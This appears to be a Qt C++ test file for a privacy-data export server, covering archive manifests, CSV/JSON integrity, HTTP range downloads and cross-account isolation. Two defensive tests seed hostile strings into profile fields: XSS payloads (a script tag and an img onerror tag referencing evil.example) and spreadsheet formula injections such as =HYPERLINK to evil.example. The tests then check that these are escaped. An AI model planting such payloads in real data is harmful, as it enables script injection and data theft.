// Export requests end to end: the archive's content (manifest, per-file
// hashes, CSV and JSON from the account's real rows) and its download (ETag,
// single byte ranges, If-Range, 416, HEAD), plus cross-account isolation.
#include "TestServer.h"

#include <QBuffer>
#include <QCryptographicHash>
#include <QJsonArray>
#include <QtTest>

#include <quazip/quazip.h>
#include <quazip/quazipfile.h>

using namespace pd::test;

namespace {

const QString kRequests = QStringLiteral("/api/v1/requests");
constexpr int kWaitMs = 60000;
constexpr qint64 kPartSize = 4096;
const QStringList kCategories{
    QStringLiteral("profile"), QStringLiteral("billing"),  QStringLiteral("third_party_records"),
    QStringLiteral("visits"),  QStringLiteral("messages"), QStringLiteral("logs"),
    QStringLiteral("usage"),   QStringLiteral("cookies"),  QStringLiteral("google_authorizations"),
    QStringLiteral("requests")};

QString sha256(const QByteArray &bytes)
{
    return QString::fromLatin1(QCryptographicHash::hash(bytes, QCryptographicHash::Sha256).toHex());
}

// A strict RFC 4180 reader: false on a malformed document.
bool parseCsv(const QByteArray &text, QList<QStringList> *records)
{
    QStringList record;
    QByteArray field;
    bool quoted = false;
    bool fieldStarted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const char c = text.at(i);
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text.at(i + 1) == '"') {
                field += '"';
                ++i;
            } else if (c == '"') {
                quoted = false;
                if (i + 1 < text.size() && text.at(i + 1) != ',' && text.at(i + 1) != '\r')
                    return false;
            } else {
                field += c;
            }
        } else if (c == '"' && !fieldStarted) {
            quoted = true;
            fieldStarted = true;
        } else if (c == ',') {
            record << QString::fromUtf8(field);
            field.clear();
            fieldStarted = false;
        } else if (c == '\r') {
            if (i + 1 >= text.size() || text.at(i + 1) != '\n')
                return false;
            ++i;
            record << QString::fromUtf8(field);
            records->append(record);
            record.clear();
            field.clear();
            fieldStarted = false;
        } else if (c == '\n' || c == '"') {
            return false; // bare LF or a quote inside an unquoted field
        } else {
            field += c;
            fieldStarted = true;
        }
    }
    return !quoted && record.isEmpty() && field.isEmpty();
}

// Whether `html` is a page of the readable copy that is safe to open: the
// strict Content-Security-Policy, only the markup the writer uses, no
// script, event handler, embedded or remote resource, links only to other
// pages of the copy, and no '<' or '>' left outside the tags (every value
// escaped). *why says what was found otherwise.
bool isSafePage(const QByteArray &html, QString *why)
{
    const QString text = QString::fromUtf8(html);
    if (!text.startsWith(QLatin1String("<!DOCTYPE html>")) ||
        !text.contains(
            QLatin1String("<meta http-equiv=\"Content-Security-Policy\" "
                          "content=\"default-src 'none'; style-src 'unsafe-inline'\">"))) {
        *why = QStringLiteral("no doctype or no strict Content-Security-Policy");
        return false;
    }
    static const QSet<QString> allowedTags{
        QStringLiteral("!doctype"), QStringLiteral("html"),  QStringLiteral("head"),
        QStringLiteral("meta"),     QStringLiteral("title"), QStringLiteral("style"),
        QStringLiteral("body"),     QStringLiteral("nav"),   QStringLiteral("a"),
        QStringLiteral("h1"),       QStringLiteral("p"),     QStringLiteral("div"),
        QStringLiteral("table"),    QStringLiteral("thead"), QStringLiteral("tbody"),
        QStringLiteral("tr"),       QStringLiteral("th"),    QStringLiteral("td"),
        QStringLiteral("code")};
    static const QSet<QString> allowedAttributes{
        QStringLiteral("lang"),    QStringLiteral("charset"), QStringLiteral("http-equiv"),
        QStringLiteral("content"), QStringLiteral("name"),    QStringLiteral("href"),
        QStringLiteral("rel"),     QStringLiteral("scope"),   QStringLiteral("class"),
        QStringLiteral("colspan")};
    static const QRegularExpression tag(QStringLiteral("<(/?)([^\\s>/]+)([^>]*)>"));
    static const QRegularExpression attribute(QStringLiteral("([^\\s=]+)(?:=\"([^\"]*)\")?"));
    static const QRegularExpression page(QStringLiteral("^[a-z0-9_]+(-[0-9]+)?\\.html\\z"));
    QString outside;
    qsizetype at = 0;
    for (auto tags = tag.globalMatch(text); tags.hasNext();) {
        const QRegularExpressionMatch match = tags.next();
        outside += text.mid(at, match.capturedStart() - at);
        at = match.capturedEnd();
        const QString name = match.captured(2).toLower();
        if (!allowedTags.contains(name)) {
            *why = QStringLiteral("element <%1>").arg(name);
            return false;
        }
        if (name == QLatin1String("!doctype"))
            continue;
        for (auto attributes = attribute.globalMatch(match.captured(3)); attributes.hasNext();) {
            const QRegularExpressionMatch pair = attributes.next();
            const QString key = pair.captured(1).toLower();
            const QString value = pair.captured(2);
            if (!allowedAttributes.contains(key)) {
                *why = QStringLiteral("attribute %1 on <%2>").arg(key, name);
                return false;
            }
            if (key == QLatin1String("href") && !page.match(value).hasMatch()) {
                *why = QStringLiteral("link to %1").arg(value);
                return false;
            }
        }
        if (name == QLatin1String("style") && match.captured(1).isEmpty()) {
            const qsizetype end = text.indexOf(QLatin1String("</style>"), at);
            const QString css = text.mid(at, end - at);
            if (end < 0 || css.contains(QLatin1String("url(")) ||
                css.contains(QLatin1String("@import")) || css.contains(QLatin1Char('<'))) {
                *why = QStringLiteral("style that loads something");
                return false;
            }
            at = end;
        }
    }
    outside += text.mid(at);
    if (outside.contains(QLatin1Char('<')) || outside.contains(QLatin1Char('>'))) {
        *why = QStringLiteral("unescaped < or > in the text");
        return false;
    }
    return true;
}

// Every file of the zip archive `archive` by name; false when the archive or
// one of its files cannot be read.
bool unzip(QByteArray archive, QHash<QString, QByteArray> *files)
{
    QBuffer buffer(&archive);
    QuaZip zip(&buffer);
    if (!zip.open(QuaZip::mdUnzip))
        return false;
    for (bool more = zip.goToFirstFile(); more; more = zip.goToNextFile()) {
        QuaZipFile file(&zip);
        if (!file.open(QIODevice::ReadOnly))
            return false;
        files->insert(zip.getCurrentFileName(), file.readAll());
    }
    return true;
}

} // namespace

class TstServerExport : public QObject
{
    Q_OBJECT

private:
    QString status(const QString &id, const QString &token)
    {
        return m_server.get(kRequests + QLatin1Char('/') + id, token)
            .json()
            .value(QStringLiteral("status"))
            .toString();
    }

    Reply fileExport(const QString &token, const QByteArray &key, const QStringList &categories,
                     const QString &format)
    {
        return m_server.submitRequest(
            token, key,
            QJsonObject{
                {QStringLiteral("type"), QStringLiteral("export")},
                {QStringLiteral("payload"),
                 QJsonObject{{QStringLiteral("categories"), QJsonArray::fromStringList(categories)},
                             {QStringLiteral("format"), format}}}});
    }

    QByteArray archiveOf(const QString &id, const QString &token)
    {
        return m_server.get(kRequests + QLatin1Char('/') + id + QStringLiteral("/archive"), token)
            .body;
    }

    Reply download(const QList<QPair<QByteArray, QByteArray>> &headers,
                   const QByteArray &method = "GET")
    {
        return m_server.request(method, m_archivePath, {}, headers, m_token);
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY2(m_server.start({QStringLiteral("--process-after"), QStringLiteral("0"),
                                 QStringLiteral("--archive-part-sizes"),
                                 QStringLiteral("%1,1000000000").arg(kPartSize)}),
                 qPrintable(m_server.lastError()));
        m_token = m_server.signIn(m_server.accounts().at(0)).accessToken;
        m_otherToken = m_server.signIn(m_server.accounts().at(1)).accessToken;
        QVERIFY(!m_token.isEmpty() && !m_otherToken.isEmpty());

        const Reply created =
            fileExport(m_token, "export-all", kCategories, QStringLiteral("both"));
        QCOMPARE(created.status, 201);
        m_id = created.json().value(QStringLiteral("id")).toString();
        QTRY_COMPARE_WITH_TIMEOUT(status(m_id, m_token), QStringLiteral("completed"), kWaitMs);
        m_request = m_server.get(kRequests + QLatin1Char('/') + m_id, m_token).json();
        m_archivePath = kRequests + QLatin1Char('/') + m_id + QStringLiteral("/archive");
        const Reply whole = download({});
        QCOMPARE(whole.status, 200);
        m_archive = whole.body;
        QVERIFY(!m_archive.isEmpty());
    }

    void resultDescribesTheArchive()
    {
        const QJsonObject result = m_request.value(QStringLiteral("result")).toObject();
        QCOMPARE(result.value(QStringLiteral("archive_url")).toString(),
                 m_server.origin().toString() + m_archivePath);
        QCOMPARE(result.value(QStringLiteral("size_bytes")).toInteger(), qint64(m_archive.size()));
        QCOMPARE(result.value(QStringLiteral("sha256")).toString(), sha256(m_archive));
        const QDateTime completed = QDateTime::fromString(
            m_request.value(QStringLiteral("updated_at")).toString(), Qt::ISODateWithMs);
        const QDateTime expires = QDateTime::fromString(
            result.value(QStringLiteral("expires_at")).toString(), Qt::ISODateWithMs);
        // Issue 15: links work for more than 30 days (31 by default).
        QCOMPARE(completed.msecsTo(expires), qint64(31) * 24 * 3600 * 1000);
    }

    void headersDescribeTheDownload()
    {
        const Reply head = download({}, "HEAD");
        QCOMPARE(head.status, 200);
        QVERIFY(head.body.isEmpty());
        QCOMPARE(head.header("content-length").toLongLong(), qint64(m_archive.size()));
        QCOMPARE(head.header("content-type"), QByteArray("application/zip"));
        QCOMPARE(head.header("accept-ranges"), QByteArray("bytes"));
        QCOMPARE(head.header("etag"), '"' + sha256(m_archive).toLatin1() + '"');
        QCOMPARE(head.header("content-disposition"),
                 "attachment; filename=\"privacy-export-" + m_id.toLatin1() + ".zip\"");
    }

    void twoRangesMakeTheWhole()
    {
        const qint64 size = m_archive.size();
        const qint64 middle = size / 2;
        const Reply first = download({{"Range", "bytes=0-" + QByteArray::number(middle - 1)}});
        QCOMPARE(first.status, 206);
        QCOMPARE(first.header("content-range"),
                 "bytes 0-" + QByteArray::number(middle - 1) + '/' + QByteArray::number(size));
        const Reply second = download({{"Range", "bytes=" + QByteArray::number(middle) + '-'}});
        QCOMPARE(second.status, 206);
        QCOMPARE(second.header("content-range"), "bytes " + QByteArray::number(middle) + '-' +
                                                     QByteArray::number(size - 1) + '/' +
                                                     QByteArray::number(size));
        QCOMPARE(first.body.size() + second.body.size(), size);
        QCOMPARE(sha256(first.body + second.body), m_request.value(QStringLiteral("result"))
                                                       .toObject()
                                                       .value(QStringLiteral("sha256"))
                                                       .toString());
    }

    void rangeEdgeCases()
    {
        const qint64 size = m_archive.size();
        const QByteArray total = '/' + QByteArray::number(size);
        const Reply suffix = download({{"Range", "bytes=-100"}});
        QCOMPARE(suffix.status, 206);
        QCOMPARE(suffix.body, m_archive.right(100));
        QCOMPARE(suffix.header("content-range"), "bytes " + QByteArray::number(size - 100) + '-' +
                                                     QByteArray::number(size - 1) + total);
        const Reply longSuffix = download({{"Range", "bytes=-" + QByteArray::number(size + 10)}});
        QCOMPARE(longSuffix.status, 206);
        QCOMPARE(longSuffix.body, m_archive);
        const Reply pastEnd = download({{"Range", "bytes=10-" + QByteArray::number(size + 1000)}});
        QCOMPARE(pastEnd.status, 206);
        QCOMPARE(pastEnd.body, m_archive.mid(10));

        for (const QByteArray &bad :
             {QByteArray("bytes=" + QByteArray::number(size) + '-'), QByteArray("bytes=5-2"),
              QByteArray("bytes=0-1,5-6"), QByteArray("items=0-1"), QByteArray("bytes=abc"),
              QByteArray("bytes=-0")}) {
            const Reply reply = download({{"Range", bad}});
            QCOMPARE(reply.status, 416);
            QCOMPARE(reply.problemSlug(), QStringLiteral("range-not-satisfiable"));
            QCOMPARE(reply.header("content-range"), "bytes *" + total);
        }
        const Reply head = download({{"Range", "bytes=0-1,5-6"}}, "HEAD");
        QCOMPARE(head.status, 416);
        QVERIFY(head.body.isEmpty());
    }

    void ifRangeDecidesBetweenPartAndWhole()
    {
        const QByteArray etag = '"' + sha256(m_archive).toLatin1() + '"';
        const Reply matching = download({{"Range", "bytes=0-9"}, {"If-Range", etag}});
        QCOMPARE(matching.status, 206);
        QCOMPARE(matching.body, m_archive.left(10));
        for (const QByteArray &stale :
             {QByteArray("\"0000\""), QByteArray("Wed, 21 Oct 2015 07:28:00 GMT")}) {
            const Reply reply = download({{"Range", "bytes=0-9"}, {"If-Range", stale}});
            QCOMPARE(reply.status, 200);
            QCOMPARE(reply.body, m_archive);
        }
    }

    void manifestMatchesEveryFile()
    {
        QHash<QString, QByteArray> files;
        QVERIFY(unzip(m_archive, &files));
        QVERIFY(files.contains(QStringLiteral("manifest.json")));
        const QJsonObject manifest =
            QJsonDocument::fromJson(files.take(QStringLiteral("manifest.json"))).object();
        QVERIFY(!manifest.value(QStringLiteral("account_id")).toString().isEmpty());
        QCOMPARE(manifest.value(QStringLiteral("format")).toString(), QStringLiteral("both"));
        // The readable copy: an index and at least one page per category.
        for (const QJsonValue &value : manifest.value(QStringLiteral("readable")).toArray()) {
            const QJsonObject entry = value.toObject();
            const QString path = entry.value(QStringLiteral("path")).toString();
            QVERIFY2(files.contains(path), qPrintable(path));
            const QByteArray content = files.take(path);
            QCOMPARE(entry.value(QStringLiteral("sha256")).toString(), sha256(content));
            QCOMPARE(entry.value(QStringLiteral("size_bytes")).toInteger(), qint64(content.size()));
            m_html.insert(path, content);
        }
        QVERIFY(m_html.contains(QStringLiteral("html/index.html")));
        for (const QString &category : kCategories)
            QVERIFY2(m_html.contains(QStringLiteral("html/%1.html").arg(category)),
                     qPrintable(category));
        const QJsonArray entries = manifest.value(QStringLiteral("files")).toArray();
        QCOMPARE(entries.size(), kCategories.size() * 2);
        QCOMPARE(files.size(), entries.size());
        for (const QJsonValue &value : entries) {
            const QJsonObject entry = value.toObject();
            const QString path = entry.value(QStringLiteral("path")).toString();
            QVERIFY2(files.contains(path), qPrintable(path));
            const QByteArray content = files.value(path);
            QCOMPARE(entry.value(QStringLiteral("sha256")).toString(), sha256(content));
            QCOMPARE(entry.value(QStringLiteral("size_bytes")).toInteger(), qint64(content.size()));
            qint64 rows = 0;
            if (path.endsWith(QLatin1String(".csv"))) {
                QList<QStringList> records;
                QVERIFY2(parseCsv(content, &records), qPrintable(path));
                QVERIFY(!records.isEmpty());
                for (const QStringList &record : std::as_const(records))
                    QCOMPARE(record.size(), records.first().size());
                rows = records.size() - 1;
            } else {
                QJsonParseError error;
                rows = QJsonDocument::fromJson(content, &error).array().size();
                QCOMPARE(error.error, QJsonParseError::NoError);
            }
            QCOMPARE(entry.value(QStringLiteral("rows")).toInteger(), rows);
            m_rows.insert(path, rows);
            m_files.insert(path, content);
        }
    }

    void filesHoldTheAccountsRows()
    {
        QVERIFY(!m_files.isEmpty());
        const Reply visits = m_server.get(QStringLiteral("/api/v1/visits?limit=1"), m_token);
        QCOMPARE(visits.status, 200);
        const qint64 total = visits.json().value(QStringLiteral("total")).toInteger();
        QVERIFY(total > 0);
        QList<QStringList> records;
        QVERIFY(parseCsv(m_files.value(QStringLiteral("visits.csv")), &records));
        QCOMPARE(qint64(records.size()), total + 1);
        QVERIFY(records.first().contains(QStringLiteral("started_at")));
        QVERIFY(records.first().contains(QStringLiteral("page_url")));
        QCOMPARE(m_rows.value(QStringLiteral("visits.json")), total);

        const QJsonObject profile = m_server.get(QStringLiteral("/api/v1/profile"), m_token).json();
        const QJsonArray profileRows =
            QJsonDocument::fromJson(m_files.value(QStringLiteral("profile.json"))).array();
        QCOMPARE(profileRows.size(), 1);
        QCOMPARE(profileRows.first().toObject().value(QStringLiteral("email")).toString(),
                 profile.value(QStringLiteral("email")).toString());

        const qint64 messages = m_server.get(QStringLiteral("/api/v1/messages?limit=1"), m_token)
                                    .json()
                                    .value(QStringLiteral("total"))
                                    .toInteger();
        QCOMPARE(m_rows.value(QStringLiteral("messages.csv")), messages);
        const qsizetype cookies = m_server.get(QStringLiteral("/api/v1/cookies"), m_token)
                                      .json()
                                      .value(QStringLiteral("items"))
                                      .toArray()
                                      .size();
        QVERIFY(cookies > 0);
        QCOMPARE(m_rows.value(QStringLiteral("cookies.json")), qint64(cookies));
        bool listed = false;
        for (const QJsonValue &row :
             QJsonDocument::fromJson(m_files.value(QStringLiteral("requests.json"))).array())
            listed = listed || row.toObject().value(QStringLiteral("id")).toString() == m_id;
        QVERIFY(listed);
    }

    // Issue 15: every page of the readable copy opens safely anywhere.
    void readableCopyIsSafe()
    {
        QVERIFY(m_html.size() > kCategories.size());
        for (auto it = m_html.cbegin(); it != m_html.cend(); ++it) {
            QString why;
            QVERIFY2(isSafePage(it.value(), &why),
                     qPrintable(it.key() + QLatin1String(": ") + why));
        }
        // The page lists every row of its category (one page: few visits).
        const QByteArray visits = m_html.value(QStringLiteral("html/visits.html"));
        QCOMPARE(qint64(visits.count("<tr><td>")), m_rows.value(QStringLiteral("visits.json")));
        QVERIFY(m_html.value(QStringLiteral("html/index.html")).contains("href=\"visits.html\""));
    }

    // Text that would run in a browser if it were not escaped shows as text.
    void readableCopyEscapesHostileText()
    {
        const QString script = QStringLiteral("<script>alert(1)</script>");
        const QString image =
            QStringLiteral("\"><img src=https://evil.example/x onerror=alert(1)>");
        bool ok = false;
        m_server.runSql(QStringLiteral("UPDATE profiles SET full_name = ?, address_line1 = ?,"
                                       " website = ? WHERE account_id = 'demo-james'"),
                        {script, image, QStringLiteral("javascript:alert('x')")}, &ok);
        QVERIFY2(ok, qPrintable(m_server.lastError()));
        const Reply created = fileExport(m_otherToken, "export-hostile-html",
                                         {QStringLiteral("profile")}, QStringLiteral("json"));
        QCOMPARE(created.status, 201);
        const QString id = created.json().value(QStringLiteral("id")).toString();
        QTRY_COMPARE_WITH_TIMEOUT(status(id, m_otherToken), QStringLiteral("completed"), kWaitMs);
        QHash<QString, QByteArray> files;
        QVERIFY(unzip(archiveOf(id, m_otherToken), &files));
        const QByteArray page = files.value(QStringLiteral("html/profile.html"));
        QString why;
        QVERIFY2(isSafePage(page, &why), qPrintable(why));
        QVERIFY(page.contains("<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>"));
        QVERIFY(page.contains(
            "<td>&quot;&gt;&lt;img src=https://evil.example/x onerror=alert(1)&gt;</td>"));
        QVERIFY(page.contains("<td>javascript:alert(&#39;x&#39;)</td>"));
        QVERIFY(!page.contains("<script"));
    }

    // Issue 15: the archive in parts, each with its URL and checksum, each
    // resumable with a range, together the archive again.
    void partsVerifyAndReassemble()
    {
        const QJsonArray sets = m_request.value(QStringLiteral("result"))
                                    .toObject()
                                    .value(QStringLiteral("parts"))
                                    .toArray();
        QCOMPARE(sets.size(), 1); // 4096 bytes; the archive is smaller than 1 GB
        const QJsonObject set = sets.at(0).toObject();
        QCOMPARE(set.value(QStringLiteral("part_size")).toInteger(), kPartSize);
        const QJsonArray parts = set.value(QStringLiteral("parts")).toArray();
        QCOMPARE(parts.size(), (m_archive.size() + kPartSize - 1) / kPartSize);
        QVERIFY(parts.size() >= 2);
        QByteArray joined;
        for (qsizetype i = 0; i < parts.size(); ++i) {
            const QJsonObject part = parts.at(i).toObject();
            const QString url = part.value(QStringLiteral("url")).toString();
            QCOMPARE(url, m_server.origin().toString() + m_archivePath +
                              QStringLiteral("/parts/%1/%2").arg(kPartSize).arg(i + 1));
            const QString path = QUrl(url).path();
            const Reply whole = m_server.get(path, m_token);
            QCOMPARE(whole.status, 200);
            QCOMPARE(sha256(whole.body), part.value(QStringLiteral("sha256")).toString());
            QCOMPARE(qint64(whole.body.size()),
                     part.value(QStringLiteral("size_bytes")).toInteger());
            const QByteArray etag = '"' + sha256(whole.body).toLatin1() + '"';
            QCOMPARE(whole.header("etag"), etag);
            QVERIFY(whole.header("content-disposition")
                        .endsWith(QByteArray(
                            ".zip." + QByteArray::number(i + 1).rightJustified(3, '0') + '"')));
            // Resumed: a range of the part, not of the archive.
            const Reply tail = m_server.request(
                "GET", path, {}, {{"range", "bytes=10-"}, {"if-range", etag}}, m_token);
            QCOMPARE(tail.status, 206);
            QCOMPARE(tail.body, whole.body.mid(10));
            QCOMPARE(tail.header("content-range"), "bytes 10-" +
                                                       QByteArray::number(whole.body.size() - 1) +
                                                       '/' + QByteArray::number(whole.body.size()));
            joined += whole.body;
        }
        QCOMPARE(joined, m_archive);
        QCOMPARE(m_server
                     .get(m_archivePath +
                              QStringLiteral("/parts/%1/%2").arg(kPartSize).arg(parts.size() + 1),
                          m_token)
                     .status,
                 404);
        QCOMPARE(m_server.get(m_archivePath + QStringLiteral("/parts/4095/1"), m_token).status,
                 404);
        QCOMPARE(
            m_server
                .request(
                    "GET",
                    QUrl(parts.at(0).toObject().value(QStringLiteral("url")).toString()).path(), {},
                    {}, m_otherToken)
                .status,
            404);
    }

    void otherAccountsCannotDownload()
    {
        const Reply get = m_server.request("GET", m_archivePath, {}, {}, m_otherToken);
        QCOMPARE(get.status, 404);
        QCOMPARE(get.problemSlug(), QStringLiteral("not-found"));
        QCOMPARE(m_server.request("HEAD", m_archivePath, {}, {}, m_otherToken).status, 404);
        QCOMPARE(m_server.get(kRequests + QLatin1Char('/') + m_id, m_otherToken).status, 404);
        QCOMPARE(m_server.get(m_archivePath).status, 401);
    }

    void csvOnlyExportHoldsOnlyTheAskedFiles()
    {
        const Reply created = fileExport(m_otherToken, "export-small",
                                         {QStringLiteral("cookies"), QStringLiteral("requests")},
                                         QStringLiteral("csv"));
        QCOMPARE(created.status, 201);
        const QString id = created.json().value(QStringLiteral("id")).toString();
        QTRY_COMPARE_WITH_TIMEOUT(status(id, m_otherToken), QStringLiteral("completed"), kWaitMs);
        QByteArray bytes = archiveOf(id, m_otherToken);
        QBuffer buffer(&bytes);
        QuaZip zip(&buffer);
        QVERIFY(zip.open(QuaZip::mdUnzip));
        QStringList names = zip.getFileNameList();
        names.sort();
        // The readable copy covers the asked categories only, whatever the format.
        QCOMPARE(names, (QStringList{
                            QStringLiteral("cookies.csv"), QStringLiteral("html/cookies.html"),
                            QStringLiteral("html/index.html"), QStringLiteral("html/requests.html"),
                            QStringLiteral("manifest.json"), QStringLiteral("requests.csv")}));
    }

    void csvCellsNeverRunAsFormulas()
    {
        // Text a user (or anyone who can write to their profile) controls.
        const QStringList hostile{QStringLiteral("=HYPERLINK(\"https://evil.example/\"&A1)"),
                                  QStringLiteral("+1+2"),
                                  QStringLiteral("-2+3"),
                                  QStringLiteral("@SUM(A1)"),
                                  QStringLiteral("\tTab"),
                                  QStringLiteral("\rReturn"),
                                  QStringLiteral("plain")};
        bool ok = false;
        m_server.runSql(QStringLiteral("UPDATE profiles SET full_name = ?, address_line1 = ?,"
                                       " address_line2 = ?, city = ?, region = ?, phone = ?,"
                                       " website = ? WHERE account_id = 'demo-james'"),
                        {hostile.at(0), hostile.at(1), hostile.at(2), hostile.at(3), hostile.at(4),
                         hostile.at(5), hostile.at(6)},
                        &ok);
        QVERIFY2(ok, qPrintable(m_server.lastError()));
        const Reply created = fileExport(m_otherToken, "export-formulas",
                                         {QStringLiteral("profile")}, QStringLiteral("both"));
        QCOMPARE(created.status, 201);
        const QString id = created.json().value(QStringLiteral("id")).toString();
        QTRY_COMPARE_WITH_TIMEOUT(status(id, m_otherToken), QStringLiteral("completed"), kWaitMs);
        QHash<QString, QByteArray> files;
        QVERIFY(unzip(archiveOf(id, m_otherToken), &files));
        QList<QStringList> records;
        QVERIFY(parseCsv(files.value(QStringLiteral("profile.csv")), &records));
        QCOMPARE(records.size(), 2);
        const QStringList header = records.at(0);
        const QStringList row = records.at(1);
        QCOMPARE(row.size(), header.size());
        const QStringList columns{QStringLiteral("full_name"),      QStringLiteral("address_line1"),
                                  QStringLiteral("address_line2"),  QStringLiteral("address_city"),
                                  QStringLiteral("address_region"), QStringLiteral("phone"),
                                  QStringLiteral("website")};
        for (qsizetype i = 0; i < columns.size(); ++i) {
            QVERIFY2(header.contains(columns.at(i)), qPrintable(header.join(u',')));
            const QString cell = row.at(header.indexOf(columns.at(i)));
            const QString expected =
                i + 1 < columns.size() ? QLatin1Char('\'') + hostile.at(i) : hostile.at(i);
            QCOMPARE(cell, expected);
        }
        // The JSON file keeps the text as it is, and the manifest says what
        // was done to the CSV.
        const QJsonArray json =
            QJsonDocument::fromJson(files.value(QStringLiteral("profile.json"))).array();
        QCOMPARE(json.at(0).toObject().value(QStringLiteral("full_name")).toString(),
                 hostile.at(0));
        const QJsonObject manifest =
            QJsonDocument::fromJson(files.value(QStringLiteral("manifest.json"))).object();
        QVERIFY(manifest.value(QStringLiteral("csv_formula_escape"))
                    .toString()
                    .contains(QLatin1String("formulas")));
    }

private:
    TestServer m_server;
    QString m_token;
    QString m_otherToken;
    QString m_id;
    QString m_archivePath;
    QJsonObject m_request;
    QByteArray m_archive;
    QHash<QString, qint64> m_rows;
    QHash<QString, QByteArray> m_files;
    QHash<QString, QByteArray> m_html;
};

QTEST_GUILESS_MAIN(TstServerExport)
#include "tst_server_export.moc"
